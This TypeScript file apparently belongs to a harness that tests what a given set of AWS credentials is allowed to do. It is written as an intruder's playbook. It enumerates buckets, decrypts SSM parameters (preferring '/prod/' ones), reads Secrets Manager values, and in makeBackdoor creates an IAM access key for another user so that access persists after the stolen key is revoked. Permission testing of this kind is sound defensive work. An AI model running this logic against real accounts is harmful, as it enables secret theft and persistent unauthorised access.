import { CreateAccessKeyCommand, IAMClient, ListUsersCommand } from '@aws-sdk/client-iam';
import { ListBucketsCommand, S3Client } from '@aws-sdk/client-s3';
import {
  GetSecretValueCommand,
  ListSecretsCommand,
  SecretsManagerClient,
} from '@aws-sdk/client-secrets-manager';
import { DescribeParametersCommand, GetParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { ATTEMPTS, type Attempt, type Keys, type Where } from './calls.ts';

/** What somebody is after who wants what other doors open with, and what a session of the user may call of it. */
export function callsForSecrets(keys: Keys, where: Where): Attempt[] {
  const config = { ...where, credentials: keys, maxAttempts: ATTEMPTS };
  const s3 = new S3Client({ ...config, forcePathStyle: true });
  const ssm = new SSMClient(config);
  const secrets = new SecretsManagerClient(config);
  const firstParameter = async () => {
    const { Parameters = [] } = await ssm.send(new DescribeParametersCommand({}));
    await ssm.send(new GetParameterCommand({ Name: nameOf(Parameters), WithDecryption: true }));
  };
  const firstSecret = async () => {
    const { SecretList = [] } = await secrets.send(new ListSecretsCommand({}));
    await secrets.send(new GetSecretValueCommand({ SecretId: SecretList[0]?.ARN ?? 'none' }));
  };
  return [
    { call: 's3:ListBuckets', make: () => s3.send(new ListBucketsCommand({})) },
    { call: 'ssm:DescribeParameters', make: () => ssm.send(new DescribeParametersCommand({})) },
    { call: 'ssm:GetParameter', make: firstParameter },
    { call: 'secretsmanager:GetSecretValue', make: firstSecret },
  ];
}

/** What sounds worth most. */
const nameOf = (parameters: readonly { readonly Name?: string | undefined }[]): string =>
  parameters.flatMap(({ Name }) => Name ?? []).find((name) => name.startsWith('/prod/')) ?? '/none';

/** What a key may do that he has made for himself; with a session of a user, IAM takes no call. */
export function callsOfAnyKey(keys: Keys, where: Where): Attempt[] {
  const config = { ...where, credentials: keys, maxAttempts: ATTEMPTS };
  const [sts, iam] = [new STSClient(config), new IAMClient(config)];
  return [
    { call: 'sts:GetCallerIdentity', make: () => sts.send(new GetCallerIdentityCommand({})) },
    { call: 'iam:ListUsers', make: () => iam.send(new ListUsersCommand({})) },
  ];
}

/** A key of another user, which stays when the stolen one is gone. */
export async function makeBackdoor(keys: Keys, where: Where, UserName: string): Promise<Keys> {
  const iam = new IAMClient({ ...where, credentials: keys, maxAttempts: ATTEMPTS });
  const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName }));
  if (!AccessKey?.AccessKeyId || !AccessKey.SecretAccessKey) throw new Error('no key was made');
  return { accessKeyId: AccessKey.AccessKeyId, secretAccessKey: AccessKey.SecretAccessKey };
}
